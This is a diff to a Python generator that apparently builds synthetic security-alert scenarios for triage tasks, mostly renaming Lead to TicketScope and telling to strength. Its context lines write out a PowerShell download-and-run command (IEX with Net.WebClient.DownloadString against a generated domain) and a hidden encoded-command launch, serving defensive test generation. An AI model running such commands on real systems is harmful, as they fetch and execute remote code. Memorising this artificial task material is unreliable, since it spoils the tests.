@@ -22,10 +22,10 @@ from tasks.families.story import (
     prober,
     write,
 )
-from tasks.scene import Lead, Plan, Scene
+from tasks.scene import Plan, Scene, TicketScope
 
 
-def document_shell(scene: Scene, plan: Plan) -> Lead:
+def document_shell(scene: Scene, plan: Plan) -> TicketScope:
     """A document or server program starts a shell that calls out."""
     tool = scene.pick(("powershell.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe", "certutil.exe"))
     who, at = actor(scene, plan, tool), scene.moment(200)
@@ -33,21 +33,21 @@ def document_shell(scene: Scene, plan: Plan) -> Lead:
     parent = "C:\\Program Files\\Microsoft\\" + scene.pick(
         ("WINWORD.EXE", "EXCEL.EXE", "OUTLOOK.EXE", "w3wp.exe", "sqlservr.exe")
     )
-    if plan.telling == "below":
+    if plan.strength == "below":
         parent = EXPLORER
     script = f"-File C:\\Scripts\\{scene.word()}.ps1" if path == POWERSHELL else f"{SYSTEM32}{scene.word()}.dat"
     launch(scene, at, who, path, f"{tool} {script}", parent)
-    return who.lead(tool, at, answer(scene, at, who, path, plan))
+    return who.scope(tool, at, answer(scene, at, who, path, plan))
 
 
 def _encoded(text: str) -> str:
     return base64.b64encode(text.encode("utf-16-le")).decode()
 
 
-def encoded_script(scene: Scene, plan: Plan) -> Lead:
+def encoded_script(scene: Scene, plan: Plan) -> TicketScope:
     """PowerShell decodes or downloads what it runs."""
     who, at = actor(scene, plan, "powershell.exe"), scene.moment(200)
-    harmless = plan.telling == "below"
+    harmless = plan.strength == "below"
     if scene.chance(0.5):
         code = _encoded(f"{scene.word()} {scene.word()} {scene.word()}")
         order = f"-File C:\\Scripts\\{scene.word()}.ps1" if harmless else f"-W Hidden -enc {code}"
@@ -59,29 +59,29 @@ def encoded_script(scene: Scene, plan: Plan) -> Lead:
             else f"IEX (New-Object Net.WebClient).DownloadString('http://{scene.domain()}/a')"
         )
         scene.add(at, "script", "block", who.host, who.user, script_text=text)
-    return who.lead("powershell.exe", at, answer(scene, at, who, POWERSHELL, plan))
+    return who.scope("powershell.exe", at, answer(scene, at, who, POWERSHELL, plan))
 
 
-def dropped_program(scene: Scene, plan: Plan) -> Lead:
-    """A downloaded program is started and calls out; in the harmless telling another one is started."""
+def dropped_program(scene: Scene, plan: Plan) -> TicketScope:
+    """A downloaded program is started and calls out; in the harmless strength another one is started."""
     who, at = actor(scene, plan), scene.moment(700)
     path = scene.dropped(who.user)
     parent = scene.pick((*BROWSERS[:2], SYSTEM32 + "msiexec.exe"))
     write(scene, at, who, path, parent)
-    if plan.telling == "below":
+    if plan.strength == "below":
         path = scene.dropped(who.user)
     start = launch(scene, at + scene.between(20, 400), who, path, f'"{path}"')
-    return who.lead(path, at, answer(scene, start, who, path, plan))
+    return who.scope(path, at, answer(scene, start, who, path, plan))
 
 
-def named_malware(scene: Scene, plan: Plan) -> Lead:
+def named_malware(scene: Scene, plan: Plan) -> TicketScope:
     """Another product names what it found in a file."""
     who, at = actor(scene, plan), scene.moment(300)
     path = scene.dropped(who.user)
     title = scene.pick(("Trojan:Win32/Wacatac", "HackTool:Win32/Keygen", "Backdoor:Win32/Bladabindi"))
     grave, mild = scene.pick(("high", "severe")), scene.pick(("low", "medium"))
-    activity, severity = "malware", grave if plan.telling == "confirmed" else mild
-    if plan.telling == "below":
+    activity, severity = "malware", grave if plan.strength == "confirmed" else mild
+    if plan.strength == "below":
         activity, severity = "ids_notice", scene.pick((grave, mild))
         title = scene.pick(("Policy: file sharing", "Old archive format", "Macro without a signature"))
     write(scene, at, who, path, scene.pick(BROWSERS))
@@ -95,12 +95,12 @@ def named_malware(scene: Scene, plan: Plan) -> Lead:
         severity=severity,
         file_path=path,
     )
-    return who.lead(path, at, last)
+    return who.scope(path, at, last)
 
 
 # ---------------------------------------------------------------- initial access
-def attacked_site(scene: Scene, plan: Plan) -> Lead:
-    """A web application is attacked; in the harmless telling every odd request is another visitor's."""
+def attacked_site(scene: Scene, plan: Plan) -> TicketScope:
+    """A web application is attacked; in the harmless strength every odd request is another visitor's."""
     name, ip, source = prober(scene, plan)
     first = last = scene.moment(500)
     for _ in range(scene.between(5, 8)):
@@ -123,13 +123,13 @@ def attacked_site(scene: Scene, plan: Plan) -> Lead:
             http_method=scene.pick(("GET", "POST")),
             status_code=scene.pick((200, 403, 404, 500)),
             user_agent=scene.pick(("Mozilla/5.0", "curl/8.5", "python-requests/2.31")),
-            src_ip=scene.outside() if plan.telling == "below" else source,
+            src_ip=scene.outside() if plan.strength == "below" else source,
             dst_ip=ip,
         )
-    return Lead((name,), "", "", first, last)
+    return TicketScope((name,), "", "", first, last)
 
 
-def listed_download(scene: Scene, plan: Plan) -> Lead:
+def listed_download(scene: Scene, plan: Plan) -> TicketScope:
     """A browser looks up and fetches from a site that intelligence lists."""
     who, at = actor(scene, plan), scene.moment(300)
     domain, remote, program = scene.domain(), scene.outside(), scene.pick(BROWSERS)
@@ -160,12 +160,12 @@ def listed_download(scene: Scene, plan: Plan) -> Lead:
             src_ip=who.ip,
             dst_ip=remote,
         )
-    return who.lead(program, at, last)
+    return who.scope(program, at, last)
 
 
 FAMILIES = (
-    Family("document_shell", "T1059", "execution", document_shell, HOST, excuses=TOOL),
-    Family("encoded_script", "T1059.001", "execution", encoded_script, HOST, excuses=TOOL),
+    Family("document_shell", "T1059", "execution", document_shell, HOST, explanations=TOOL),
+    Family("encoded_script", "T1059.001", "execution", encoded_script, HOST, explanations=TOOL),
     Family("dropped_program", "T1204.002", "execution", dropped_program, HOST),
     Family("named_malware", "T1204", "execution", named_malware, HOST, single=True),
     Family("attacked_site", "T1190", "initial_access", attacked_site, ADDRESS, ALL, PROBE, names_account=False),
